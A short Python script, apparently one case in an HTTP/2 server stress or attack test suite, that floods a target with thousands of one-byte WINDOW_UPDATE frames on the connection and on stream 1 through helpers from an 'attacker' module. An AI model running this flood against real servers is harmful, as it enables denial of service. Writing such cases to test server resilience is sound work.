#!/usr/bin/python3
"""WINDOW_UPDATE flood: by one byte, on the connection and on a stream, without anything that was sent."""
from attacker import flood, h2, headers, main

MARK = ("http2.flood_windows",)
ENDED = True


def attack(run):
    one = (1).to_bytes(4, "big")
    flood(run, (h2.frame(h2.WINDOW, 0, 0, one) + h2.frame(h2.WINDOW, 0, 1, one)) * 2000, 4000, begin=headers(1))


if __name__ == "__main__":
    main(attack)
